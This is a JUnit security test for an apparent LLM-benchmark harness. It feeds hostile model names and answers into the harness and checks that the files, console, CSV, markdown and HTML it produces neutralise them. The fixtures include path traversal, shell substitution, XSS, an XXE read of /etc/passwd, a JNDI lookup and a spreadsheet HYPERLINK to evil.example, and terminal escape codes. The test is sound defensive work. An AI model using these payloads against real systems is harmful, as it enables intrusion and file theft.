package dev.tr116.junit;

import static org.assertj.core.api.Assertions.assertThat;

import dev.tr116.browser.Browser;
import dev.tr116.browser.PageAssert;
import dev.tr116.browser.View;
import dev.tr116.plan.Model;
import dev.tr116.plan.Property;
import dev.tr116.results.StoredSession;
import dev.tr116.server.script.Script;
import dev.tr116.server.script.ScriptedServer;
import dev.tr116.trace.DualRun;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.List;
import java.util.regex.Pattern;
import java.util.stream.Stream;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.RegisterExtension;
import org.junit.jupiter.api.io.TempDir;

/** Names and answers that try to get out of where they belong, from the settings to the pages. */
class HostileSessionTest {
  private static final List<String> MODELS =
      List.of(
          "../../../../escaped",
          "/etc/absolute",
          "=HYPERLINK(\"http://evil.example\")",
          "-rf `id` $(id) 'quoted' \"twice\"",
          "<script>document.title='run'</script>",
          "a|b](javascript:alert(1)) **bold** &amp; &lt;",
          "日本語-🦙-é",
          "x".repeat(300));

  private static final String ANSWER =
      "</textarea></pre><script>document.title='run'</script><img src=x"
          + " onerror=\"document.title='run'\"> ]]> <!DOCTYPE a [<!ENTITY b SYSTEM"
          + " \"file:///etc/passwd\">]> &b; =1+1 | # head\n\n**bold** \u001b[31mred\u001b]0;t\u0007"
          + " \u009b31m \u202e \u0000 \ud83e\udd99 {{7*7}} ${jndi:ldap://evil.example}";

  /** Half of a surrogate pair, as a tokenizer that cuts characters sends it. */
  private static final String HALF_A_PAIR = "{\"response\":\"\\ud83e\",\"done\":false}";

  @RegisterExtension private final BenchmarkLaunch launch = new BenchmarkLaunch();

  @TempDir private Path folder;

  private final ScriptedServer server =
      ScriptedServer.start(MODELS.stream().map(Model::named).toArray(Model[]::new))
          .version("1.0-scripted<script>document.title='run'</script>\u001b[31m")
          .always(
              Script.answer()
                  .after(Duration.ofMillis(20))
                  .text(ANSWER)
                  .line(HALF_A_PAIR)
                  .text("end")
                  .done());

  private Path results = Path.of("results");

  @BeforeEach
  void measure() {
    results = folder.resolve("inside").resolve("results");
    launch.set(Property.RESULTS, results);
    launch.set(Property.ENDPOINTS, server.endpoint());
    launch.set(Property.MODELS, String.join(",", MODELS));
    launch.set(Property.SESSION, "s");
    assertThat(Outcomes.messages(launch.run(OneRunEach.class).testEvents().failed())).isEmpty();
  }

  @AfterEach
  void closeServer() {
    server.close();
  }

  @Test
  void nothingGetsOutOfWhereItBelongs() throws IOException {
    everyFileStandsInTheSession();
    everyAnswerIsReadBackAsItCame();
    theConsoleIsNotSteered();
    theTableOpensAsData();
    noPageHoldsMarkupOfTheirs();
    theReportRunsNothing();
  }

  private void everyFileStandsInTheSession() throws IOException {
    try (Stream<Path> files = Files.walk(folder)) {
      assertThat(files.filter(Files::isRegularFile))
          .isNotEmpty()
          .allMatch(file -> file.startsWith(results))
          .allMatch(file -> file.getFileName().toString().matches("[A-Za-z0-9._-]{1,100}"));
    }
    assertThat(BenchmarkLaunch.runsRecordedIn(results)).hasSize(MODELS.size());
  }

  private void everyAnswerIsReadBackAsItCame() {
    var stored = StoredSession.read(results.resolve("s"));

    assertThat(stored.cells())
        .extracting(cell -> cell.id().model())
        .containsExactlyInAnyOrderElementsOf(MODELS.stream().map(Model::named).toList());
    assertThat(stored.cells().stream().flatMap(cell -> cell.runs().stream()))
        .flatExtracting(block -> block.run().agents())
        .flatExtracting(agent -> agent.calls())
        .allSatisfy(call -> assertThat(call.answer()).isEqualTo(ANSWER + "\ud83e" + "end"));
  }

  private void theConsoleIsNotSteered() {
    assertThat(launch.console())
        .contains("escaped")
        .doesNotContainPattern(Pattern.compile("[\\p{Cc}\\p{Cf}&&[^\\n]]"));
  }

  private void theTableOpensAsData() throws IOException {
    var table = Files.readString(results.resolve("s").resolve("analysis.csv"));

    assertThat(table)
        .contains("\"'=HYPERLINK(\"\"http://evil.example\"\"):latest\"")
        .contains("\"'-rf `id` $(id) 'quoted' \"\"twice\"\":latest\"")
        .doesNotContainPattern("(?m)(^|,)\"?[=+@-][^0-9]");
  }

  private void noPageHoldsMarkupOfTheirs() throws IOException {
    assertThat(Files.readString(results.resolve("s").resolve("TR116.md")))
        .contains("ollama pull '-rf `id` $(id) '\\''quoted'\\'' \"twice\":latest'");
    for (var name : List.of("summary.md", "TR116.md")) {
      var shown = Files.readString(results.resolve("s").resolve(name));
      assertThat(shown.replaceAll("(?s)\n```.*?\n```", ""))
          .as("%s outside of its commands", name)
          .contains("escaped")
          .doesNotContain("<script", "\u001b", "<img")
          .doesNotContainPattern("(?<!\\\\)\\]\\(javascript");
    }
  }

  private void theReportRunsNothing() throws IOException {
    var page = results.resolve("s").resolve("report.html");
    var html = Files.readString(page, StandardCharsets.UTF_8);

    assertThat(html).contains("&lt;script&gt;").doesNotContain("<script>document.title");
    PageAssert.assertSelfContained(page);
    var found =
        Browser.orSkip().look(page, View.DESK_LIGHT, Files.createDirectory(folder.resolve("look")));
    assertThat(found.title()).isNotBlank().isNotEqualTo("run");
    assertThat(found.console()).isEmpty();
  }

  @AgentBenchmark(
      scenarios = "chimera-homo",
      runs = 1,
      properties = {"backend=ollama", "warmup=0", "solo=off", "slo.enforce=false"})
  static class OneRunEach {
    @DualAgentTest
    void run(DualRun run) {
      assertThat(run.succeeded()).isTrue();
    }
  }
}
